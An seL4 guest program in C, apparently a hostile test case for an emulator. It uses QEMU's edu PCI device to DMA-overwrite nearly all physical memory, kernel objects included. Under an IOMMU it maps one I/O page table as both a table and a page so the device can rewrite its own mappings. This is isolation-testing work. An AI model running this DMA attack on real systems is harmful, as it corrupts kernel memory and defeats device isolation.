/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A driver that aims its device at all of memory but what it needs itself, kernel objects included.
 * On a PC that is the end of the kernel, so this guest is for the emulator alone, which refuses it.
 * Without an IOMMU physical addresses are enough; with one it needs an I/O page table that its
 * device can write: a table that is linked as a table, and, through a copy of its capability, as a
 * page as well.
 */
#include "edu.h"
#include "pci.h"

#define VENDOR 0x1234
#define DEVICE 0x11e8

#define MEMORY_START 0x100000  /* what lies below is nobody's object */
#define MEMORY_END   0x1800000 /* --memory 24M */
#define CHUNK_BITS   21        /* what one I/O page table maps */
#define CHUNK        ((seL4_Word)1 << CHUNK_BITS)
#define PATTERN      UINT64_C(0xffffffffffffff07)

#define OWN_BITS  15 /* log2 of bytes for I/O page tables */
#define OWN_PAGES (1 << (OWN_BITS - seL4_PageBits))
#define VIEW      UINT64_C(0x31000000)

unsigned guest_pool_bits = 20;

enum { PAGE_PATTERN, PAGE_ENTRIES, PAGE_VICTIM, PAGES };

static seL4_CPtr pages[PAGES];

static uint64_t *view(unsigned page)
{
    return (uint64_t *)(VIEW + page * PAGE_SIZE);
}

/* --- what is left alone ---------------------------------------------------------------------- */

static seL4_Word address_of(seL4_CPtr frame)
{
    seL4_X86_Page_GetAddress_t address = seL4_X86_Page_GetAddress(frame);

    must((seL4_Error)address.error, "Page_GetAddress");
    return address.paddr;
}

/* A byte per page of memory. */
static char needed[MEMORY_END / PAGE_SIZE];

static void need(seL4_CPtr first, seL4_CPtr end)
{
    for (seL4_CPtr frame = first; frame < end; frame++)
        needed[address_of(frame) / PAGE_SIZE] = 1;
}

/* Pages without which this guest, or its way to its device, would end. */
static void find_needed(seL4_Word own_memory)
{
    need(guest_boot_info->userImageFrames.start, guest_boot_info->userImageFrames.end);
    need(guest_boot_info->extraBIPages.start, guest_boot_info->extraBIPages.end);
    need(seL4_CapBootInfoFrame, seL4_CapBootInfoFrame + 1);
    need(seL4_CapInitThreadIPCBuffer, seL4_CapInitThreadIPCBuffer + 1);
    need(pages[PAGE_PATTERN], pages[PAGE_PATTERN] + 1);
    need(pages[PAGE_ENTRIES], pages[PAGE_ENTRIES] + 1);
    for (seL4_Word i = 0; i < OWN_PAGES; i++)
        needed[own_memory / PAGE_SIZE + i] = 1;
}

/* --- the device's way to memory -------------------------------------------------------------- */

#ifdef CONFIG_IOMMU

#define DOMAIN     9
#define IO_ADDR    UINT64_C(0x08000000)
#define IO_CHUNK   (IO_ADDR + CHUNK) /* of which the device writes the entries itself */
#define IO_PATTERN (IO_ADDR + PAGE_SIZE)
#define IO_ENTRIES (IO_ADDR + 2 * PAGE_SIZE)

static void map_table(seL4_CPtr table, seL4_CPtr space, seL4_Word address)
{
    must(seL4_X86_IOPageTable_Map(table, space, address), "IOPageTable_Map");
}

static seL4_CPtr table_new(seL4_CPtr untyped)
{
    seL4_CPtr table = slot_new();

    must(seL4_Untyped_Retype(untyped, seL4_X86_IOPageTableObject, 0, seL4_CapInitThreadCNode, 0, 0,
                             table, 1),
         "Untyped_Retype");
    return table;
}

/* One table for the chunk at IO_CHUNK, which is also the page at IO_ADDR. */
static void map_twice(seL4_CPtr table, seL4_CPtr space)
{
    seL4_CPtr copy;

    map_table(table, space, IO_ADDR);
    copy = cap_mint(table, seL4_AllRights, 0);
    must(seL4_X86_IOPageTable_Unmap(table), "IOPageTable_Unmap");
    map_table(table, space, IO_CHUNK);
    must(seL4_X86_IOPageTable_Unmap(copy), "IOPageTable_Unmap");
    map_table(copy, space, IO_ADDR);
}

static void open_way(seL4_CPtr untyped, unsigned slot)
{
    seL4_CPtr space = cap_mint(seL4_CapIOSpace, seL4_AllRights, DOMAIN << 16 | slot << 3);

    for (seL4_Word i = 0; i < guest_boot_info->numIOPTLevels; i++)
        map_table(table_new(untyped), space, IO_ADDR);
    map_twice(table_new(untyped), space);
    must(seL4_X86_Page_MapIO(pages[PAGE_PATTERN], space, seL4_ReadWrite, IO_PATTERN), "Page_MapIO");
    must(seL4_X86_Page_MapIO(pages[PAGE_ENTRIES], space, seL4_ReadWrite, IO_ENTRIES), "Page_MapIO");
}

/* The device's address for physical address `start`, from which on it reaches a chunk. */
static seL4_Word aim(seL4_Word start)
{
    for (unsigned i = 0; i < CHUNK / PAGE_SIZE; i++)
        view(PAGE_ENTRIES)[i] = (start + i * PAGE_SIZE) | 3;
    edu_transfer(EDU_FROM_MEMORY, IO_ENTRIES, PAGE_SIZE);
    edu_transfer(EDU_TO_MEMORY, IO_ADDR, PAGE_SIZE);
    return IO_CHUNK;
}

static seL4_Word pattern_address(void)
{
    return IO_PATTERN;
}

#else

static void open_way(seL4_CPtr untyped, unsigned slot)
{
    (void)untyped;
    (void)slot;
}

static seL4_Word aim(seL4_Word start)
{
    return start;
}

static seL4_Word pattern_address(void)
{
    return address_of(pages[PAGE_PATTERN]);
}

#endif

static void create_memory(void)
{
    for (unsigned i = 0; i < PAGES; i++) {
        pages[i] = object_new(seL4_X86_4K, 0);
        vspace_map(&root_vspace, cap_mint(pages[i], seL4_ReadWrite, 0), VIEW + i * PAGE_SIZE,
                   seL4_ReadWrite);
    }
    for (unsigned i = 0; i < PAGE_SIZE / sizeof(uint64_t); i++)
        view(PAGE_PATTERN)[i] = PATTERN;
}

/* An untyped for what the way to memory consists of, and finds its address by a frame in it. */
static seL4_CPtr create_own(seL4_Word *ret_address)
{
    seL4_CPtr untyped = object_new(seL4_UntypedObject, OWN_BITS), frame = slot_new();

    must(seL4_Untyped_Retype(untyped, seL4_X86_4K, 0, seL4_CapInitThreadCNode, 0, 0, frame, 1),
         "Untyped_Retype");
    *ret_address = address_of(frame);
    must(seL4_CNode_Delete(seL4_CapInitThreadCNode, frame, seL4_WordBits), "CNode_Delete");
    return untyped;
}

/* --- the attack ------------------------------------------------------------------------------ */

static void overwrite_chunk(seL4_Word start)
{
    seL4_Word address = aim(start);

    edu_transfer(EDU_FROM_MEMORY, pattern_address(), PAGE_SIZE);
    for (seL4_Word offset = 0; offset < CHUNK; offset += PAGE_SIZE) {
        if (start + offset >= MEMORY_START && !needed[(start + offset) / PAGE_SIZE])
            edu_transfer(EDU_TO_MEMORY, address + offset, PAGE_SIZE);
    }
}

/* What has come of a page that was zeroed. */
static const char *describe(const uint64_t *words)
{
    unsigned zeros = 0, patterns = 0;

    for (unsigned i = 0; i < PAGE_SIZE / sizeof(uint64_t); i++) {
        zeros += words[i] == 0;
        patterns += words[i] == PATTERN;
    }
    return zeros == PAGE_SIZE / sizeof(uint64_t)      ? "zeros"
           : patterns == PAGE_SIZE / sizeof(uint64_t) ? "the pattern"
                                                      : "something else";
}

/* All kinds of objects, made before or after the attack, still do what they are for. */
static void use_objects(const seL4_CPtr objects[4], const char *when)
{
    seL4_CPtr slot = slot_new();
    seL4_UserContext context = {.rip = 0x1234};
    seL4_Word badge = 0;

    must(seL4_TCB_WriteRegisters(objects[0], 0, 0, 1, &context), "TCB_WriteRegisters");
    context.rip = 0;
    must(seL4_TCB_ReadRegisters(objects[0], 0, 0, 1, &context), "TCB_ReadRegisters");
    seL4_Signal(objects[1]);
    seL4_Poll(objects[1], &badge);
    must(seL4_CNode_Copy(objects[2], 3, 4, seL4_CapInitThreadCNode, objects[1], seL4_WordBits,
                         seL4_AllRights),
         "CNode_Copy");
    must(seL4_CNode_Move(seL4_CapInitThreadCNode, slot, seL4_WordBits, objects[2], 3, 4),
         "CNode_Move");
    must(seL4_X86_ASIDPool_Assign(seL4_CapInitThreadASIDPool, objects[3]), "ASIDPool_Assign");
    for (unsigned i = 0; i < 4; i++)
        must(seL4_CNode_Delete(seL4_CapInitThreadCNode, objects[i], seL4_WordBits), "CNode_Delete");
    print("objects made %s the attack: rip 0x%lx, badge 0x%lx\n", when, context.rip, badge);
}

static void create_objects(seL4_CPtr ret_objects[4])
{
    ret_objects[0] = object_new(seL4_TCBObject, 0);
    ret_objects[1] = cap_mint(object_new(seL4_NotificationObject, 0), seL4_AllRights, 0x42);
    ret_objects[2] = object_new(seL4_CapTableObject, 4);
    ret_objects[3] = object_new(seL4_X64_PML4Object, 0);
}

void guest_main(void)
{
    struct pci_device edu;
    seL4_CPtr before[4], after[4];
    seL4_Word own_memory;

    pci_open();
    edu = pci_find(VENDOR, DEVICE);
    edu_open(edu.bar);
    pci_set_master(edu.slot, 1);
    create_memory();
    open_way(create_own(&own_memory), edu.slot);
    find_needed(own_memory);
    create_objects(before);
    for (seL4_Word start = 0; start < MEMORY_END; start += CHUNK)
        overwrite_chunk(start);
    create_objects(after);
    print("hostile: a frame holds %s\n", describe(view(PAGE_VICTIM)));
    vspace_new_page(&root_vspace, VIEW + PAGES * PAGE_SIZE);
    print("hostile: a new frame holds %s\n", describe(view(PAGES)));
    use_objects(before, "before");
    use_objects(after, "after");
    print("hostile: done\n");
    guest_end();
}
